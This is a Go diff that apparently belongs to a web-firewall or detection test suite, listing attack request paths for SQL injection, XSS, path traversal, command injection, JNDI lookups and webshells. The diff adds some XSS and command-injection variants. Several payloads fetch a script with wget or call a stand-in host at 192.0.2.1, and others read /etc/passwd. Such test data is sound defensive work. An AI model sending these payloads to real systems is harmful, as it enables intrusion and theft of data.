@@ -58,10 +58,10 @@ func get(i int, target string, status uint16, headers ...string) sdk.HTTP {
 var attacks = map[uint32][]string{
 	sql: {"/item?id=1%27%20OR%20%271%27%3D%271", "/item?id=1+or+1=1", "/item?id=1%20UNION%20ALL%20SELECT%20null,2", "/item?id=1/**/union/**/select/**/1", "/item?id=1%2527%2520and%25201%253D2",
 		"/item?id=1);waitfor delay '0:0:5'--", "/login?user=admin'--", "/item?id=1 and sleep(5)", "/x?id=(select group_concat(a) from information_schema.tables)", "/item?q=%u0027%20or%20%u0027a%u0027=%u0027a"},
-	xss: {"/q?s=%3Cscript%3Ealert(1)%3C/script%3E", "/q?s=<img src=x onerror=alert(1)>", "/q?s=%22%3E%3Csvg/onload=alert(1)%3E", "/q?s=&lt;script&gt;alert(1)", "/q?u=javascript:alert(1)", "/q?s=&#60;script>", "/q?s=<b onmouseover = x>"},
+	xss: {"/q?s=%3Cscript%3Ealert(1)%3C/script%3E", "/q?s=<img src=x onerror=alert(1)>", "/q?s=%22%3E%3Csvg/onload=alert(1)%3E", "/q?s=&lt;script&gt;alert(1)", "/q?u=javascript:alert(1)", "/q?s=<a <1<img src=x onerror=y>", "/q?s=<1<b<i onclick=y", "/q?s=&#60;script>", "/q?s=<b onmouseover = x>"},
 	traversal: {"/view?file=../../../../etc/passwd", "/..%2f..%2f..%2fetc/hostname", "/cgi-bin/.%2e/.%2e/.%2e/.%2e/x", "/view?f=..%5c..%5c..%5cboot", "/view?f=php://filter/convert.base64-encode/resource=index",
 		"/%252e%252e/%252e%252e/x", "/view?p=/etc/passwd%00.png"},
-	command: {"/ping?host=127.0.0.1;cat+/etc/group", "/ping?host=1%7Cwhoami", "/ping?host=$(id)", "/ping?host=%60uname%60", "/ping?h=1%26%26ls+-la", "/x?cmd=%0aid;", "/setup?todo=;wget+http://192.0.2.1/a.sh",
+	command: {"/ping?host=127.0.0.1;cat+/etc/group", "/ping?host=1%7Cwhoami", "/ping?host=$(id)", "/ping?host=%60uname%60", "/ping?h=1%26%26ls+-la", "/x?cmd=%0aid;", "/x?a=1||%0a%7C+id;", "/x?a=1%26%26%26%26id;", "/setup?todo=;wget+http://192.0.2.1/a.sh",
 		"/index.php?s=/index/think/app/invokefunction&function=call_user_func_array&vars[0]=phpinfo"},
 	jndi:     {"/?x=${jndi:ldap://192.0.2.1/a}", "/?x=%24%7Bjndi%3Armi%3A%2F%2F192.0.2.1%7D", "/?x=${${lower:j}ndi:${lower:l}dap://192.0.2.1}", "/?x=${${::-j}${::-n}di:dns://192.0.2.1}"},
 	webshell: {"/uploads/image.php?cmd=whoami", "/x/up.jsp?cmd=cat+a", "/shell.aspx?c=net+user"},
